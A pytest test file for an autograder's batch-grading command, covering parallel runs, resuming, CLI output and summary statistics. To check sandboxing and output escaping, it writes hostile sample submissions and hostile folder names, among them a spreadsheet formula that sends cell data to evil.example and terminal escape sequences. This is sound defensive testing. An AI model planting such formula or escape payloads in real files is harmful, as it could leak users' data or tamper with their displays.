"""`grade-batch`: a class graded in parallel; one bad submission never stops or spoils the others."""

import csv
import json
import subprocess
import sys

import pytest

from autograder.batch import run_batch
from autograder.engine.course import ROOT
from autograder.engine.course import chapter_names
from autograder.sandbox import Limits

CHAPTERS = ["ch01_perceptron", "ch02_forward"]
FAST = Limits(call_seconds=2)
HOSTILE = {
    "exits": "import os\nos._exit(0)\n",
    "loops": "while True:\n    pass\n",
    "writes": "open('/tmp/autograder-batch-test-was-here', 'w').write('x')\n",
}


def make_students(root):
    """ada hands in the reference, ben the stubs, cy the reference with one known bug per chapter."""
    for student in ("ada", "ben", "cy"):
        (root / student).mkdir(parents=True)
    for chapter in chapter_names():
        solution = (ROOT / "solutions" / f"{chapter}.py").read_text()
        bug = sorted((ROOT / "tests" / chapter / "variants").glob("wrong_*.py"))[0].read_text()
        (root / "ada" / f"{chapter}.py").write_text(solution)
        (root / "ben" / f"{chapter}.py").write_text((ROOT / "exercises" / f"{chapter}.py").read_text())
        (root / "cy" / f"{chapter}.py").write_text(solution + "\n" + bug)


@pytest.fixture
def class_dir(tmp_path):
    root = tmp_path / "submitted"
    make_students(root)
    for name, attack in HOSTILE.items():
        (root / name).mkdir()
        for chapter in CHAPTERS:
            (root / name / f"{chapter}.py").write_text(attack + (ROOT / "solutions" / f"{chapter}.py").read_text())
    (root / "notebook_student" / "ch01_perceptron").mkdir(parents=True)
    (root / "notebook_student" / "ch01_perceptron" / "ch01_perceptron.ipynb").write_text(
        (ROOT / "source_notebooks" / "ch01_perceptron" / "ch01_perceptron.ipynb").read_text())
    return root


def rows(out):
    with open(out / "grades.csv") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def test_batch_grades_everyone_and_contains_hostile_submissions(class_dir, tmp_path):
    out = tmp_path / "results"
    result = run_batch(class_dir, out, jobs=2, chapters=CHAPTERS, limits=FAST, progress=None)
    assert not result.failed
    table = rows(out)
    assert set(table) == {"ada", "ben", "cy", "exits", "loops", "writes", "notebook_student"}
    full = float(table["ada"]["max_score"])
    assert float(table["ada"]["score"]) == full and float(table["ben"]["score"]) == 0
    assert float(table["exits"]["score"]) == 0 and float(table["loops"]["score"]) == 0
    assert float(table["writes"]["score"]) == 0  # its import fails: the file system is read-only
    assert float(table["notebook_student"]["ch01_perceptron"]) == float(table["ada"]["ch01_perceptron"])
    assert not (tmp_path.parent / "autograder-batch-test-was-here").exists()
    report = json.loads((out / "students" / "cy.json").read_text())
    assert set(report) >= {"score", "max_score", "tests"}
    assert "7 graded in this run, 0 unchanged since the last run (results kept), 0 failed" in (out / "summary.txt").read_text()


def test_rerun_skips_graded_students_unless_forced(class_dir, tmp_path):
    out = tmp_path / "results"
    for student in ("exits", "loops", "writes", "notebook_student"):
        for path in (class_dir / student).rglob("*"):
            if path.is_file():
                path.unlink()
    run_batch(class_dir, out, chapters=CHAPTERS, progress=None)
    (out / "students" / "ben.json").unlink()  # as if the batch had been interrupted before ben
    before = (out / "students" / "ada.json").stat().st_mtime_ns
    again = run_batch(class_dir, out, chapters=CHAPTERS, progress=None)
    assert set(again.skipped) == set(again.graded) - {"ben"}
    assert (out / "students" / "ada.json").stat().st_mtime_ns == before
    forced = run_batch(class_dir, out, chapters=CHAPTERS, force=True, progress=None)
    assert forced.skipped == [] and (out / "students" / "ada.json").stat().st_mtime_ns != before


def test_cli_reports_summary_and_bad_directory(class_dir, tmp_path):
    out = tmp_path / "results"
    ok = subprocess.run([sys.executable, "-m", "autograder", "grade-batch", str(class_dir), "--out", str(out),
                         "--chapter", "ch01_perceptron", "--jobs", "2", "--call-seconds", "2"],
                        cwd=ROOT, capture_output=True, text=True, timeout=600)
    assert ok.returncode == 0, ok.stderr
    assert "7 graded in this run" in ok.stdout and "[7/7]" in ok.stderr
    bad = subprocess.run([sys.executable, "-m", "autograder", "grade-batch", str(tmp_path / "nope")],
                         cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and "is not a directory" in bad.stderr


def test_dask_cluster_gives_the_same_results_as_local_grading(class_dir, tmp_path):
    distributed = pytest.importorskip("distributed")
    local = run_batch(class_dir, tmp_path / "local", chapters=["ch01_perceptron"], limits=FAST, progress=None)
    with distributed.LocalCluster(n_workers=1, threads_per_worker=1, processes=True, dashboard_address=None) as cluster:
        remote = run_batch(class_dir, tmp_path / "dask", chapters=["ch01_perceptron"], scheduler=cluster.scheduler_address,
                           limits=FAST, progress=None)
    assert remote.graded == local.graded and not remote.failed


HOSTILE_NAMES = {
    # folder name: (grades.csv cell, progress and summary text)
    # a folder name has no "/": the URL is built with CHAR(47)
    '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"ok")': (
        '\'=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"ok")',
        '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"ok")'),
    "+1": ("'+1", "+1"),
    "-2": ("'-2", "-2"),
    "@cmd": ("'@cmd", "@cmd"),
    "eve\x1b[2J\x1b]0;pwned\x07\rmallory": ("eve mallory", "eve mallory"),
}


def test_student_names_are_neither_formulas_nor_terminal_escapes(tmp_path):
    """A student chooses the folder name: grades.csv gets no formula, the terminal no escape sequence."""
    import io

    from autograder.batch import BatchResult, write_class_files

    root = tmp_path / "submitted"
    for name in HOSTILE_NAMES:
        (root / name).mkdir(parents=True)
        (root / name / "ch01_perceptron.py").write_text((ROOT / "solutions" / "ch01_perceptron.py").read_text())
    out = tmp_path / "results"
    progress = io.StringIO()
    result = run_batch(root, out, jobs=2, chapters=["ch01_perceptron"], limits=FAST, progress=progress)
    assert not result.failed and set(result.graded) == set(HOSTILE_NAMES)
    with open(out / "grades.csv", newline="") as handle:
        table = list(csv.reader(handle))
    full = f"{result.graded['+1']['max_score']:g}"
    assert table[0] == ["student", "ch01_perceptron", "score", "max_score"]
    assert sorted(table[1:]) == sorted([cell, full, full, full] for cell, _ in HOSTILE_NAMES.values())
    raw = (out / "grades.csv").read_text()
    assert "\x1b" not in raw and "\x07" not in raw and "\r\nmallory" not in raw
    lines = progress.getvalue().splitlines()
    assert sorted(line.split("] ", 1)[1] for line in lines) == sorted(f"{shown} {full}/{full}" for _, shown in HOSTILE_NAMES.values())
    assert not any(c in progress.getvalue() for c in "\x1b\x07\r")
    # a grading that failed puts the name and the reason in summary.txt
    name = "eve\x1b[2J\x1b]0;pwned\x07\rmallory"
    write_class_files(out, BatchResult(result.graded, {name: "OSError: \x1b[31mdisk\x1b[0m\nfull\x07"}, []),
                      ["ch01_perceptron"])
    summary = (out / "summary.txt").read_text()
    assert summary.splitlines()[0] == "5 graded in this run, 0 unchanged since the last run (results kept), 1 failed"
    assert "FAILED eve mallory: OSError: disk full\n" in summary
    assert not any(c in summary for c in "\x1b\x07\r")


def test_resume_regrades_exactly_the_students_whose_submission_changed(tmp_path):
    """Issue 15, seen 4: an edited submission is graded again; the others are 'unchanged'."""
    root, out = tmp_path / "submitted", tmp_path / "results"
    for student in ("ada", "ben", "cy"):
        (root / student).mkdir(parents=True)
        (root / student / "ch01_perceptron.py").write_text((ROOT / "exercises" / "ch01_perceptron.py").read_text())
    first = run_batch(root, out, chapters=["ch01_perceptron"], limits=FAST, progress=None)
    assert first.fresh == ["ada", "ben", "cy"] and first.graded["ben"]["score"] == 0
    (root / "ben" / "ch01_perceptron.py").write_text((ROOT / "solutions" / "ch01_perceptron.py").read_text())
    again = run_batch(root, out, chapters=["ch01_perceptron"], limits=FAST, progress=None)
    assert again.fresh == ["ben"] and sorted(again.skipped) == ["ada", "cy"]
    assert again.graded["ben"]["score"] == again.graded["ben"]["max_score"] > 0
    assert rows(out)["ben"]["score"] == f"{again.graded['ben']['max_score']:g}"
    summary = (out / "summary.txt").read_text()
    assert summary.splitlines()[0] == "1 graded in this run, 2 unchanged since the last run (results kept), 0 failed"
    # another set of chapters is another grading; an untouched class is all unchanged
    other = run_batch(root, out, chapters=["ch01_perceptron", "ch02_forward"], limits=FAST, progress=None)
    assert other.fresh == ["ada", "ben", "cy"]
    assert run_batch(root, out, chapters=["ch01_perceptron", "ch02_forward"], limits=FAST, progress=None).fresh == []
    # a new file in a student's folder counts as a change too
    (root / "cy" / "ch02_forward.py").write_text((ROOT / "solutions" / "ch02_forward.py").read_text())
    assert run_batch(root, out, chapters=["ch01_perceptron", "ch02_forward"], limits=FAST, progress=None).fresh == ["cy"]


def test_summary_names_points_possible_mean_median_and_failed_students(tmp_path):
    from autograder.batch import BatchResult, points_possible, write_class_files

    reports = {}
    for student, scores in {"ada": (25, 15), "ben": (0, 0), "cy": (25, 9)}.items():
        tests = [{"name": f"{c}::f::p", "chapter": c, "score": s, "max_score": m, "status": "passed" if s == m else "failed",
                  "output": ""} for c, s, m in zip(CHAPTERS, scores, (25, 15))]
        reports[student] = {"score": sum(scores), "max_score": 40, "tests": tests}
    write_class_files(tmp_path, BatchResult(reports, {"dan": "TimeoutError: the grader ran out of time"}, ["ada"]),
                      CHAPTERS)
    summary = (tmp_path / "summary.txt").read_text()
    possible = points_possible("ch01_perceptron") + points_possible("ch02_forward")
    assert summary.splitlines()[0] == "2 graded in this run, 1 unchanged since the last run (results kept), 1 failed"
    assert f"points possible: {possible:g} in all; per chapter: ch01_perceptron {points_possible('ch01_perceptron'):g}" in summary
    assert f"Total: mean 24.7, median 34, lowest 0, highest 40 (of {possible:g} points possible)" in summary
    assert "ch01_perceptron: mean 16.7, median 25, lowest 0, highest 25" in summary
    assert "FAILED dan: TimeoutError: the grader ran out of time" in summary
    assert "Grading failed for these students (not in grades.csv; retried on the next run):" in summary
    assert "checks most students fail: ch02_forward::f::p (67%), ch01_perceptron::f::p (33%)" in summary
    if pytest.importorskip("matplotlib"):
        assert (tmp_path / "histograms.png").stat().st_size > 0 and (tmp_path / "check_failures.png").stat().st_size > 0


def test_histogram_bins_cover_zero_to_the_points_possible_one_point_each():
    from autograder.batch import histogram_edges

    assert histogram_edges(3) == [-0.5, 0.5, 1.5, 2.5, 3.5]  # 0, 1, 2, 3 points: four bins that never merge
    edges = histogram_edges(318)
    assert edges[0] == 0 and edges[-1] == 318 and len(edges) == 21


def test_a_failed_regrade_is_not_counted_with_its_old_result(tmp_path, monkeypatch):
    import autograder.batch as batch

    root, out = tmp_path / "submitted", tmp_path / "results"
    (root / "ada").mkdir(parents=True)
    (root / "ada" / "ch01_perceptron.py").write_text((ROOT / "solutions" / "ch01_perceptron.py").read_text())
    run_batch(root, out, chapters=["ch01_perceptron"], limits=FAST, progress=None)
    (root / "ada" / "ch01_perceptron.py").write_text("# changed\n")
    monkeypatch.setattr(batch, "_grade_all", lambda todo, *a: iter([(s, "OSError: disk full") for s in todo]))
    result = run_batch(root, out, chapters=["ch01_perceptron"], limits=FAST, progress=None)
    assert result.failed == {"ada": "OSError: disk full"} and result.graded == {}
    assert "ada" not in rows(out) and not (out / "students" / "ada.source.json").exists()
